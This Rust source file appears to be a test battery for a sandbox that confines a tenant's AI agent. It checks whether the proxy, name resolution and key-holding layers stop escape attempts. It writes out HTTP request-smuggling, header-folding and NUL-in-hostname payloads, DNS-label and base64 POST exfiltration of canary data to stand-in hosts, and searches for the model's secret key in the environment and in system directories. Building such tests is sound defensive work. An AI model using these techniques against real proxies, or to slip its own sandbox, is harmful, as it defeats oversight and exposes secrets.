//! What names, words and keys are worth: hosts within what is allowed, data that is carried out, the model's key.

use super::{How, PROXY, SECRET, Wire, allowed, get, say};
use crate::battery::FLAG;
use cofferdam_sandbox::probe::Attempt::{Find, Lookup, TcpName};

/// What a name is worth once it is allowed.
pub(super) fn names() -> Vec<Wire> {
    let named = |host: &str| {
        let words = format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        How::Cell(TcpName { name: "allowed.example".into(), port: 80, say: words, expect: FLAG.into() })
    };
    let through = |words: &str| How::Cell(say(PROXY, words.into()));
    vec![
        Wire {
            id: "names.other-host".into(),
            title: "connect to an allowed name and ask for another".into(),
            layers: &["host check"],
            attack: named("unlisted.example"),
            leak: "",
            held: false,
            control: named("allowed.example"),
        },
        Wire {
            id: "names.two-hosts".into(),
            title: "ask for two names at once".into(),
            layers: &["host check"],
            attack: named("allowed.example\r\nHost: unlisted.example"),
            leak: "",
            held: false,
            control: named("allowed.example"),
        },
        Wire {
            id: "names.smuggled".into(),
            title: "hide a second request behind two lengths".into(),
            layers: &["head parser"],
            attack: through(
                "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\n\
                 Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: unlisted.example\r\n\r\n",
            ),
            leak: "smuggled",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "names.second-host".into(),
            title: "ask for another name on a connection that was allowed".into(),
            layers: &["policy"],
            attack: through(
                "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
                 GET http://unlisted.example/second HTTP/1.1\r\nHost: unlisted.example\r\n\r\n",
            ),
            leak: "/second",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "names.obsolete-fold".into(),
            title: "hide a name in a folded header".into(),
            layers: &["head parser"],
            attack: through(
                "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nX-A: b\r\n Host: folded.example\r\n\r\n",
            ),
            leak: "folded.example",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "names.nul".into(),
            title: "end a name before its end".into(),
            layers: &["head parser"],
            attack: through(
                "GET http://unlisted.example\0.allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
            ),
            leak: "",
            held: false,
            control: allowed(),
        },
    ]
}

/// What a tenant's agent would carry out.
pub(super) fn carried() -> Vec<Wire> {
    let post = |words: &str| {
        How::Cell(say(
            PROXY,
            format!(
                "POST http://unlisted.example/ HTTP/1.1\r\nHost: unlisted.example\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{words}",
                words.len()
            ),
        ))
    };
    let lookup = |name: &str| Lookup { name: name.into() };
    vec![
        Wire {
            id: "carry.label".into(),
            title: "carry data out in a name that is looked up".into(),
            layers: &["synthetic names"],
            attack: How::Cell(lookup("canary-in-label.unlisted.example")),
            leak: "canary-in-label",
            held: false,
            control: How::Outside(lookup("control-in-label.unlisted.example")),
        },
        Wire {
            id: "carry.allowed-label".into(),
            title: "carry data out in a name below an allowed one".into(),
            layers: &["synthetic names", "policy"],
            attack: How::Cell(lookup("canary-below.allowed.example")),
            leak: "canary-below",
            held: false,
            control: How::Outside(lookup("control-below.allowed.example")),
        },
        Wire {
            id: "carry.post".into(),
            title: "post data to a name that no rule names".into(),
            layers: &["policy"],
            attack: post("canary-in-the-clear"),
            leak: "canary-in-the-clear",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "carry.base64".into(),
            title: "post it in base64".into(),
            layers: &["policy"],
            attack: post("Y2FuYXJ5LWluLWJhc2U2NA"),
            leak: "Y2FuYXJ5LWluLWJhc2U2NA",
            held: false,
            control: allowed(),
        },
        Wire {
            id: "carry.held".into(),
            title: "connect to a name that somebody is asked about".into(),
            layers: &["approvals"],
            attack: How::Cell(get("http://held.example/")),
            leak: "held.example",
            held: true,
            control: allowed(),
        },
    ]
}

/// The key of the tenant's model, which its warden alone has.
pub(super) fn secrets() -> Vec<Wire> {
    let find = |words: &str, below: &[&str]| {
        How::Cell(Find { words: words.into(), below: below.iter().map(Into::into).collect() })
    };
    let files = ["/sandbox", "/tmp", "/etc"];
    vec![
        Wire {
            id: "secrets.environment".into(),
            title: "find the model's key in an environment".into(),
            layers: &["the warden keeps it"],
            attack: find(SECRET, &[]),
            leak: "",
            held: false,
            control: find("PATH=", &[]),
        },
        Wire {
            id: "secrets.files".into(),
            title: "find the model's key in a file".into(),
            layers: &["the warden keeps it"],
            attack: find(SECRET, &files),
            leak: "",
            held: false,
            control: find("nameserver 127.0.0.1", &files),
        },
    ]
}
